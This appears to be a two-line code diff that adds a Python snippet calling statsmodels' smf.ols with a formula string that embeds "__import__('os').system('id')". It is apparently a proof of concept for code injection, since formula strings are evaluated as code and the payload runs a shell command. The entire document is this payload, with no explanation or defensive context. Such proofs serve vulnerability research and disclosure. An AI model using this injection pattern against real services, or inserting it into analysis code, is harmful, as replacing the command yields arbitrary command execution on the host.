@@ -1,0 +1,2 @@
+import statsmodels.formula.api as smf
+smf.ols("y ~ __import__('os').system('id')", data["a"])
